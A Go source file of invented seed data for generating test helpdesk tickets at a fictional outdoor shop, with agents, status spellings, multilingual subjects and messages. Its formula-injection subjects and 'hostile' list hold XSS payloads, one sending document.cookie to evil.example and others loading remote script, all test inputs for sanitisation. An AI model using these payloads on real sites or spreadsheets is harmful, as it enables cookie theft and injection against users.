package sample

// All names are invented; all domains are reserved ones.

const (
	company      = "Kestrelmoor Outdoor"
	domain       = "kestrelmoor.example"
	firstYear    = 2013
	longThread   = 117 // messages more than an ordinary ticket would have
	strayCount   = 6   // messages whose ticket does not exist
	leaversCount = 4
)

var firstNames = []string{
	"Aurelia", "Benedikt", "Celestine", "Dorian", "Elvira", "Fabrizio", "Greta", "Håkon", "Isolde", "Jörn", "Katell", "Lorenz",
	"Maëlle", "Norwin", "Odette", "Pascual", "Quirin", "Rosalind", "Søren", "Thea", "Ulrike", "Valério", "Wenzel", "Xenia", "Yannick", "Zoë",
	"Amélie", "Björk", "Clémence", "Detlef", "Éloi", "Friðrik", "Gösta", "Hélène", "Iñigo", "José", "Käthe", "Lætitia", "Mårten", "Noël",
}

var lastNames = []string{
	"Abendroth", "Brackenridge", "Castelmar", "Dünnwald", "Eichstedt", "Fjellhaug", "Grauwinkel", "Hollowbrook", "Ibañeta", "Jägerhorst",
	"Kornfelder", "Lindqvarn", "Moorgate-Hill", "Nachtweyh", "Østerlund", "Pemberwick", "Quastenberg", "Ravenscar", "Sturmfels", "Thistlewood",
	"Underhay", "Vandersteeg", "Wolkenstein", "Yarrowdale", "Zimmerlund", "O'Fennimore", "de la Brume", "van der Weyde", "Großmann-Adler", "Señorans",
}

var orgFirst = []string{
	"Alderbrook", "Birkenfall", "Cloudrest", "Drachenfels", "Eaglewater", "Frostgate", "Granithof", "Highmere",
	"Irrwald", "Juniper Bay", "Kupferberg", "Larkspur", "Mistral", "Nordlicht", "Otterstream",
}

var orgSecond = []string{
	"Climbing Hall", "Cycling Club", "Ski School", "Trail Guides", "Mountain Rescue", "Scout Group", "Outfitters", "Canoe Hire", "Summer Camp", "Hiking Society",
}

var places = [][2]string{
	{"Germany", "Oberlindau"},
	{"Germany", "Talheim am See"},
	{"Austria", "Sankt Wendelin"},
	{"Norway", "Fjordvik"},
	{"Spain", "Valdemora"},
	{"France", "Saint-Égrève-le-Haut"},
	{"Sweden", "Björkholmen"},
	{"Switzerland", "Oberwylen"},
	{"Ireland", "Ballycarrow"},
	{"Denmark", "Nørreby"},
}

var groups = [][3]string{
	{"Orders", "Orders, delivery, invoices", "orders@" + domain},
	{"Returns", "Returns and refunds", "returns@" + domain},
	{"Product advice", "Questions before buying, care, sizes", "advice@" + domain},
	{"Workshop", "Repairs and spare parts", "workshop@" + domain},
	{"Business customers", "Clubs, schools, dealers", "business@" + domain},
	{"Old web shop", "Closed in 2017; its tickets stay here", "oldshop@" + domain},
}

type agent struct {
	id, name, group, role string
	from, to              int // years; to 0: still here
	left                  string
}

var agents = []agent{
	{"A-01", "Tilda Bergqvarn", "Orders", "admin", 2013, 0, ""},
	{"A-02", "Marlon Eschenbach", "Returns", "agent", 2013, 2016, "30.06.2016"},
	{"A-03", "Philippa Grayling", "Product advice", "agent", 2013, 2018, "28.02.2018"},
	{"A-04", "Jonte Håkansvik", "Workshop", "agent", 2014, 0, ""},
	{"A-05", "Cosima Lerchenfeld", "Business customers", "agent", 2014, 2021, "31.12.2021"},
	{"A-06", "Ruben Achterkamp", "Orders", "agent", 2015, 0, ""},
	{"A-07", "Ines Valdemoro", "Returns", "agent", 2016, 0, ""},
	{"A-08", "Keziah Thornbury", "Product advice", "agent", 2017, 0, ""},
	{"A-09", "Oskar Wiesengrund", "Workshop", "agent", 2018, 2023, "15.09.2023"},
	{"A-10", "Maïwenn Kerbrat", "Business customers", "agent", 2019, 0, ""},
	{"A-11", "Solveig Brandtner", "Orders", "lead", 2020, 0, ""},
	{"A-12", "Dario Monteverdi-Kahn", "Returns", "agent", 2021, 0, ""},
	{"A-13", "Aoife Lindenbaum", "Product advice", "agent", 2022, 0, ""},
	{"A-14", "Taro Weißhaupt", "Workshop", "agent", 2024, 0, ""},
}

// statuses are the 40 spellings of the status column. The first spelling of each
// meaning is the usual one.
var statuses = []Status{
	{Value: "New", Means: "new"},
	{Value: "new", Means: "new"},
	{Value: "Neu", Means: "new"},
	{Value: "Open", Means: "open"},
	{Value: "open", Means: "open"},
	{Value: "OPEN", Means: "open"},
	{Value: "Opne", Means: "open"},
	{Value: "Offen", Means: "open"},
	{Value: "Re-opened", Means: "open"},
	{Value: "reopened", Means: "open"},
	{Value: "In progress", Means: "open"},
	{Value: "in Progress", Means: "open"},
	{Value: "WIP", Means: "open"},
	{Value: "Pending", Means: "pending"},
	{Value: "pending", Means: "pending"},
	{Value: "pendng", Means: "pending"},
	{Value: "PENDING ", Means: "pending"},
	{Value: "Pending customer", Means: "pending"},
	{Value: "Waiting for customer", Means: "pending"},
	{Value: "waiting", Means: "pending"},
	{Value: "Warten auf Kunde", Means: "pending"},
	{Value: "On hold", Means: "on hold"},
	{Value: "on-hold", Means: "on hold"},
	{Value: "Hold", Means: "on hold"},
	{Value: "On Hold ", Means: "on hold"},
	{Value: "Solved", Means: "solved"},
	{Value: "solved", Means: "solved"},
	{Value: "SOLVED", Means: "solved"},
	{Value: "Sovled", Means: "solved"},
	{Value: "Resolved", Means: "solved"},
	{Value: "resolved ", Means: "solved"},
	{Value: "Done", Means: "solved"},
	{Value: "Gelöst", Means: "solved"},
	{Value: "Erledigt", Means: "solved"},
	{Value: "Closed", Means: "closed"},
	{Value: "closed", Means: "closed"},
	{Value: "CLOSED", Means: "closed"},
	{Value: "Geschlossen", Means: "closed"},
	{Value: "Archived", Means: "closed"},
	{Value: "Spam", Means: "spam"},
}

var (
	priorities = []string{"Normal", "Normal", "Normal", "Normal", "Low", "High", "Urgent", ""}
	slaHours   = map[string]int{"Normal": 24, "Low": 72, "High": 8, "Urgent": 4, "": 24}
	types      = []string{"Question", "Question", "Problem", "Order", "Return", "Repair"}
	channels   = []string{"Email", "Email", "Email", "Web form", "Web form", "Phone", "Chat"}
	ratings    = []string{"", "", "", "", "good", "good", "bad"}
	tags       = []string{
		"refund", "delivery", "warranty", "vip", "size", "damaged", "lost parcel", "invoice", "spare part", "club discount", "#blackweek", "⛺ camping",
	}
	commaTags = []string{"shoes, size 44", "tent, 2 person", "colour: red, blue"}
	products  = []string{
		"Tarn 2 tent", "Tarn 4 tent, family", "Fjell 65 rucksack", "Fjell 35 rucksack", "Moss sleeping mat", "Heron down bag", "Heron synthetic bag",
		"Scree boots", "Scree boots, wide", "Gale jacket", "Gale jacket, women", "Drizzle poncho", "Ember stove", "Ember stove, gas", "Kettle 1.2 l",
		"Lynx headlamp", "Lynx headlamp, battery", "Carabiner set", "Rope 60 m", "Trail poles", "Brook filter", "Voucher", "Workshop service", "",
	}
)

var subjects = []string{
	"Where is my order?", "Zip of my %s is stuck", "Return of %s", "%s arrived damaged", "Question about the size of %s", "Invoice missing",
	"Spare part for %s", "Wrong colour delivered: %s", "Refund not received", "Can I wash my %s?", "Order placed twice", "Change of address",
	"Discount for our club", "Delivery to an island", "%s: warranty after two years?", "Reklamation: %s", "Rücksendung %s", "Frage zur Größe von %s",
	"Rechnung fehlt", "Devolución de %s", "Où est ma commande ?", "Bestilling av %s", "Please call me back", "Gift wrapping for %s", "Parcel went back to you",
}

var quirkSubjects = map[quirk][]string{
	spam: {
		"You have WON a voucher of 10.000 EUR", "Cheap pills, best price!!!", "Re: your mailbox is full, verify now", "SEO offer for your web shop",
		"Urgent business proposal", "Crypto doubles in 24 hours", "Final notice: domain expires",
	},
	test: {"TEST - please ignore", "test ticket", "Testing the web form, delete me"},
	formula: {
		`=HYPERLINK("http://evil.example/?x="&A1,"Click for refund")`, "+49 number in your mail does not work", "-20% voucher is refused", "@support please read",
		"=SUM(A1:A9)*2", "- no subject -", "+1 for the blue version", "@Returns: parcel is here",
	},
	mojibake: {"RÃ¼cksendung fÃ¼r Zelt", "GrÃ¶ÃŸe passt nicht", "Iâ€™m still waiting", "CafÃ© mug broken", "Â¿DÃ³nde estÃ¡ mi pedido?"},
	hebrew:   {"איפה ההזמנה שלי?", "האוהל הגיע קרוע - Tarn 2", "החזר כספי עבור הזמנה 4711"},
	arabic:   {"أين طلبي؟", "الخيمة Tarn 2 وصلت تالفة", "استرداد المبلغ"},
	han:      {"帐篷的拉链坏了", "テントのポールが折れました", "發票號碼錯誤", "배송이 늦어요 交換"},
	emoji:    {"Love the new tent 😍⛺", "Boots arrived 👢 but two left ones 🤦🏽‍♀️", "🔥 stove leaks", "Thank you 👨‍👩‍👧 🇩🇪"},
	empty:    {""},
}

var greetings = []string{"Hello,", "Hi there,", "Dear team,", "Good morning,", "Guten Tag,", "Bonjour,", "Hola,", "Hei,"}

var sentences = []string{
	"I ordered two weeks ago and have not heard anything since.", "The zip jams halfway, whatever I do.", "Could you tell me when the parcel leaves?",
	"The tracking page says &quot;unknown&quot;.", "I would like to send it back and get my money.", "Our club needs twelve more of these before summer.",
	"The seam opened on the second night, in the rain.", "It is a present, so it is a bit urgent.", "Leider passt die Größe nicht.",
	"Können Sie mir bitte die Rechnung noch einmal schicken?", "Das Gestänge ist an zwei Stellen gebrochen.", "Je n&#39;ai toujours rien reçu.",
	"¿Me pueden llamar mañana por la tarde?", "Jeg trenger en ny stang til teltet.", "I attach a picture.", "Please do not call before ten o&#39;clock.",
	"My neighbour took the parcel in and never told me.", "The price is 129,00&nbsp;€ in the shop and 149,00&nbsp;€ on the invoice.",
	"It says 5 &lt; 6 persons &amp; dogs on the label, is that a joke?", "The customer number is on the old invoice.",
}

var answers = []string{
	"Thank you for your message.", "I am sorry about the trouble.", "The parcel left our warehouse this morning.", "I have sent the invoice again.",
	"Please use the attached return label.", "The refund takes three to five working days.", "We can offer a repair free of charge.",
	"A spare pole costs 14,90&nbsp;€ including delivery.", "I have changed the address.", "May I ask for a picture of the damage?",
	"Vielen Dank für Ihre Nachricht.", "Wir haben die Gutschrift heute veranlasst.", "The size table is on page two.", "I will ask the workshop and come back to you.",
}

var notes = []string{
	"Asked the warehouse, waiting.", "Customer was friendly, give a voucher?", "Third complaint about this batch, told purchasing.", "Refund approved by Solveig.",
	"Called, nobody there.", "Not to be shown to the customer: supplier is late again.", "Bitte bis Freitag klären.", "Same person as the ticket from last week?",
}

var foreign = map[quirk]string{
	hebrew: `<div dir="rtl"><p>שלום, ההזמנה עדיין לא הגיעה.</p><p>מספר ההזמנה 4711, תודה.</p></div>`,
	arabic: `<div dir="rtl"><p>مرحبا، لم يصل الطرد بعد.</p><p>رقم الطلب 4711، شكرا.</p></div>`,
	han:    `<p>您好，帐篷的拉链在第二天就坏了，请问可以更换吗？</p><p>よろしくお願いします。</p>`,
	emoji:  `<p>Hello 👋🏽</p><p>It is great 🎉 but the left boot is a right boot 🥾🥾. Family: 👨‍👩‍👧‍👦</p>`,
}

var hostile = []string{
	`<p>Please see</p><script>document.location='http://evil.example/?'+document.cookie</script>`,
	`<p>Picture: <img src="x" onerror="alert(1)"></p>`,
	`<p><a href="javascript:alert('hi')">my invoice</a></p>`,
	`<iframe src="https://evil.example/form"></iframe><p>Fill this in</p>`,
	`<svg onload="alert(2)"><text>hello</text></svg><p>What is this?</p>`,
	`<style>body{display:none}</style><script src="https://evil.example/x.js"></script><p>Text after it</p>`,
}
